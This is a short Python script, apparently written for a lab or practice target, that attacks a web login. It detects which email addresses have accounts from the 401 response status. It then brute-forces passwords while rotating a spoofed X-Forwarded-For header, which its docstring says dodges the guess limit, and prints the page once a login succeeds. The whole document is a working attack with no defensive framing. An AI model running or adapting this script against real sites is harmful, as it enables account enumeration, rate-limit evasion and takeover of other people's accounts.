"""The status tells which address has an account, and a new header gives five more guesses."""

from target import addresses, http, passwords


def has_account(email):
    return http.post("/login", data={"email": email, "password": "wrong"}).status_code == 401


def guess(email, number, password):
    headers = {"X-Forwarded-For": f"192.0.2.{number}"}
    http.post("/login", data={"email": email, "password": password}, headers=headers)
    return http.get("/")


for email in addresses():
    if has_account(email):
        for number, password in enumerate(passwords()):
            answer = guess(email, number, password)
            if answer.status_code == 200:
                print(answer.text)
                break
        break
